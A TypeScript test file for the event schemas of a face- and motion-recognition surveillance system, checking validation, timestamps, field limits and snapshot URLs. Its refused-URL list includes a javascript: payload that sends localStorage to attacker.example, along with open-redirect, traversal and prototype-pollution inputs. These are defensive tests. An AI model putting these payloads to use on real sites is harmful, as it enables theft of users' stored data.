import assert from "node:assert/strict";
import type { z } from "zod";
import {
  AlertEventSchema,
  checkEvent,
  createAlertEvent,
  createFaceRecognitionEvent,
  createMotionDetectionEvent,
  createSystemStatusEvent,
  EVENT_LIMITS,
  FaceRecognitionEventSchema,
  FessEventSchema,
  MotionDetectionEventSchema,
  parseEvent,
  SCHEMA_VERSION,
  snapshotUrlProblem,
  SystemStatusEventSchema,
} from "../shared/events.ts";
import { createRuleAlertEvent } from "../shared/rules/alert_event.ts";
import { snapshotUrl } from "../shared/snapshots/snapshot_store.ts";

const det = {
  class_id: 0,
  class_name: "person",
  score: 0.87,
  bbox: { x1: 10.5, y1: 20, x2: 110.25, y2: 220 },
};

const samples = {
  motion: () =>
    createMotionDetectionEvent({
      camera_id: "cam-1",
      frame_number: 42,
      motion_score: 0.12,
      detections: [det],
      frame_width: 768,
      frame_height: 576,
      inference_ms: 8.2,
    }),
  face: () =>
    createFaceRecognitionEvent({
      camera_id: "lobby.2",
      frame_number: 7,
      bbox: { x1: 1, y1: 2, x2: 30, y2: 40 },
      landmarks: [1, 2, 3, 4, 5].map((i) => ({ x: i, y: i * 2 })),
      detection_score: 0.93,
      face_id: "alice",
      name: "Alice",
      similarity: 0.71,
      authorized: true,
    }),
  alert: () =>
    createAlertEvent({
      camera_id: "gate",
      frame_number: 0,
      alert_type: "unauthorized_face",
      severity: "warning",
      message: "unknown face at gate",
      face_id: null,
    }),
  system: () =>
    createSystemStatusEvent({
      camera_id: "fess",
      frame_number: 0,
      component: "kafka",
      status: "degraded",
      detail: { spooled: 3 },
    }),
};

const schemas: Record<keyof typeof samples, z.ZodType> = {
  motion: MotionDetectionEventSchema,
  face: FaceRecognitionEventSchema,
  alert: AlertEventSchema,
  system: SystemStatusEventSchema,
};

for (const [kind, make] of Object.entries(samples) as [keyof typeof samples, () => unknown][]) {
  Deno.test(`${kind} event: constructor fills id, UTC timestamp and version; JSON round trip is lossless`, () => {
    const e = make() as { event_id: string; timestamp: string; schema_version: number };
    assert.match(
      e.event_id,
      /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
    );
    assert.match(e.timestamp, /Z$/);
    assert.equal(e.schema_version, SCHEMA_VERSION);
    const back = parseEvent(JSON.stringify(e));
    assert.deepEqual(back, e);
    assert.deepEqual(schemas[kind].parse(JSON.parse(JSON.stringify(e))), e);
  });
}

function issuePaths(value: unknown): string[] {
  const r = FessEventSchema.safeParse(value);
  assert.equal(r.success, false, "expected rejection");
  return r.error!.issues.map((i) => i.path.join("."));
}

Deno.test("rejects wrong types with the exact path", () => {
  const e = { ...samples.motion(), frame_width: "768" };
  assert.deepEqual(issuePaths(e), ["frame_width"]);
  const nested = { ...samples.motion(), detections: [{ ...det, score: "high" }] };
  assert.deepEqual(issuePaths(nested), ["detections.0.score"]);
  const box = { ...samples.face(), bbox: { x1: 1, y1: 2, x2: "x", y2: 4 } };
  assert.deepEqual(issuePaths(box), ["bbox.x2"]);
});

Deno.test("rejects a bad UUID", () => {
  assert.deepEqual(issuePaths({ ...samples.alert(), event_id: "not-a-uuid" }), ["event_id"]);
});

Deno.test("rejects naive and malformed timestamps", () => {
  assert.deepEqual(issuePaths({ ...samples.face(), timestamp: "2026-11-25T10:00:00" }), [
    "timestamp",
  ]);
  assert.deepEqual(issuePaths({ ...samples.face(), timestamp: "yesterday" }), ["timestamp"]);
  assert.equal(
    FessEventSchema.safeParse({ ...samples.face(), timestamp: "2026-11-25T10:00:00+02:00" })
      .success,
    true,
  );
});

Deno.test("rejects negative and fractional frame numbers", () => {
  assert.deepEqual(issuePaths({ ...samples.motion(), frame_number: -1 }), ["frame_number"]);
  assert.deepEqual(issuePaths({ ...samples.motion(), frame_number: 1.5 }), ["frame_number"]);
});

Deno.test("rejects unknown event types at event_type", () => {
  assert.deepEqual(issuePaths({ ...samples.motion(), event_type: "explosion" }), ["event_type"]);
});

Deno.test("rejects inverted boxes, bad camera ids and unknown schema versions", () => {
  assert.deepEqual(issuePaths({ ...samples.face(), bbox: { x1: 10, y1: 0, x2: 5, y2: 4 } }), [
    "bbox",
  ]);
  assert.deepEqual(issuePaths({ ...samples.face(), camera_id: "../etc" }), ["camera_id"]);
  assert.deepEqual(issuePaths({ ...samples.face(), schema_version: 99 }), ["schema_version"]);
});

Deno.test("constructors refuse invalid input rather than build a bad event", () => {
  assert.throws(() =>
    createMotionDetectionEvent({
      camera_id: "c",
      frame_number: -3,
      motion_score: 0,
      detections: [],
      frame_width: 1,
      frame_height: 1,
    })
  );
});

Deno.test("a Date timestamp is stored as UTC ISO-8601", () => {
  const e = createSystemStatusEvent({
    camera_id: "fess",
    frame_number: 0,
    component: "detector",
    status: "healthy",
    timestamp: new Date(Date.UTC(2026, 10, 25, 12, 0, 0)),
  });
  assert.equal(e.timestamp, "2026-11-25T12:00:00.000Z");
});

Deno.test("unknown fields are refused with 422-style issues naming them, at any depth", () => {
  const alert = samples.alert();
  for (const extra of ['"pad":"xxxx"', '"zzz":1', '"__proto__":{"admin":true}']) {
    const json = JSON.stringify(alert).replace(/^\{/, `{${extra},`);
    const r = FessEventSchema.safeParse(JSON.parse(json));
    assert.equal(r.success, false, extra);
    const issue = r.error!.issues[0]!;
    assert.equal(issue.code, "unrecognized_keys", extra);
    assert.match(issue.message, new RegExp(extra.slice(1, extra.indexOf('"', 1))));
  }
  assert.deepEqual(
    issuePaths({ ...samples.motion(), detections: [{ ...det, note: "x" }] }),
    ["detections.0"],
  );
  assert.deepEqual(issuePaths({ ...samples.face(), bbox: { x1: 1, y1: 2, x2: 3, y2: 4, z: 0 } }), [
    "bbox",
  ]);
  const checked = checkEvent({ ...alert, ["k".repeat(10_000)]: 1 });
  assert.equal(checked.ok, false);
  if (!checked.ok) {
    assert.ok(checked.issues[0]!.message.length < 400, "an issue does not echo a huge key");
  }
});

Deno.test("timestamps must fall between 1970 and 2100", () => {
  for (const ts of ["0000-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "9999-12-31T23:59:59Z"]) {
    assert.deepEqual(issuePaths({ ...samples.face(), timestamp: ts }), ["timestamp"], ts);
  }
  assert.deepEqual(
    issuePaths({ ...samples.alert(), captured_at: "2100-01-01T00:00:00Z" }),
    ["captured_at"],
  );
  for (const ts of ["1970-01-01T00:00:00Z", "2099-12-31T23:59:59.999+00:00"]) {
    assert.equal(FessEventSchema.safeParse({ ...samples.face(), timestamp: ts }).success, true);
  }
});

Deno.test("class names have the per-field limit wherever they appear", () => {
  const long = "c".repeat(EVENT_LIMITS.className + 1);
  assert.deepEqual(issuePaths({ ...samples.alert(), object_class: long }), ["object_class"]);
  assert.deepEqual(issuePaths({ ...samples.alert(), object_class: "x".repeat(200_000) }), [
    "object_class",
  ]);
  const track = {
    track_id: 1,
    class_name: long,
    phase: "new",
    bbox: { x1: 0, y1: 0, x2: 1, y2: 1 },
    score: 0.5,
    hits: 1,
    missed: 0,
    first_seen: new Date().toISOString(),
    last_seen: new Date().toISOString(),
  };
  assert.deepEqual(issuePaths({ ...samples.motion(), tracks: [track] }), ["tracks.0.class_name"]);
  const ok = { ...track, class_name: "c".repeat(EVENT_LIMITS.className) };
  assert.equal(FessEventSchema.safeParse({ ...samples.motion(), tracks: [ok] }).success, true);
});

Deno.test("snapshot_url is FESS's own snapshot route for the alert's own id, and nothing else", () => {
  const alert = samples.alert();
  const id = alert.event_id;
  const accepted = [
    null,
    `/snapshots/${id}`,
    `/snapshots/${id.toUpperCase()}`,
    snapshotUrl(id, "https://fess.example"),
    snapshotUrl(id, "http://10.0.0.5:8080/"),
    snapshotUrl(id, "https://proxy.example/fess/api/"),
    snapshotUrl(id, "/fess"),
  ];
  for (const url of accepted) {
    assert.equal(AlertEventSchema.safeParse({ ...alert, snapshot_url: url }).success, true, url!);
  }
  const other = crypto.randomUUID();
  const refused = [
    "javascript:alert(1)",
    "JavaScript:fetch('//attacker.example/'+localStorage)",
    "https://attacker.example/x",
    "data:image/jpeg;base64,AAAA",
    "ftp://fess.example/snapshots/" + id,
    `/snapshots/${other}`,
    `https://fess.example/snapshots/${other}`,
    `//attacker.example/snapshots/${id}`,
    `/\\attacker.example/snapshots/${id}`,
    `https://user:pass@fess.example/snapshots/${id}`,
    `https://fess.example/snapshots/${id}?x=1`,
    `https://fess.example/snapshots/${id}#x`,
    `https://fess.example/faces?x=/snapshots/${id}`,
    `/faces/../snapshots/${id}/x`,
    `/snapshots/${id}/..`,
    ` /snapshots/${id}`,
    `https://fess.example\t/snapshots/${id}`,
    "snapshots/" + id,
  ];
  for (const url of refused) {
    const r = AlertEventSchema.safeParse({ ...alert, snapshot_url: url });
    assert.equal(r.success, false, url);
    assert.deepEqual(r.error!.issues.map((i) => i.path.join(".")), ["snapshot_url"], url);
  }
  assert.match(snapshotUrlProblem(`/snapshots/${other}`, id)!, /own event_id/);
  assert.match(snapshotUrlProblem("javascript:alert(1)", id)!, /\/snapshots\/\{event_id\}/);
});

Deno.test("alerts the rules build still validate with a snapshot URL under any base URL", () => {
  const rule = {
    rule_id: "gate",
    on: "enter" as const,
    track_id: 3,
    zone: "door",
    class_name: "person",
    score: 0.9,
    bbox: { x1: 1, y1: 2, x2: 3, y2: 4 },
    captured_at_ms: Date.now(),
    dwell_seconds: null,
    face_id: null,
    face_name: null,
    message: "person entered door",
  };
  for (const base of [undefined, "https://fess.example", "https://proxy.example/fess/"]) {
    const e = createRuleAlertEvent(rule, {
      camera_id: "cam-1",
      frame_number: 1,
      snapshotUrl: (id) => snapshotUrl(id, base),
    });
    assert.ok(e.snapshot_url?.endsWith(`/snapshots/${e.event_id}`));
    assert.deepEqual(parseEvent(JSON.stringify(e)), e);
  }
});
